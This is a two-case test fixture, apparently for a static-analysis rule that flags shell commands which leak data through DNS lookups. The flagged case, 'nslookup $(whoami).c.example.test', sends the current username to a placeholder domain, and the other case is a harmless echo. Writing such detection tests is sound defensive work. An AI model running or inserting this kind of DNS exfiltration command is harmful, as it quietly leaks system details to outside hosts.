# ruleid: looks-up-names
nslookup $(whoami).c.example.test
# ok: looks-up-names
echo nslookup
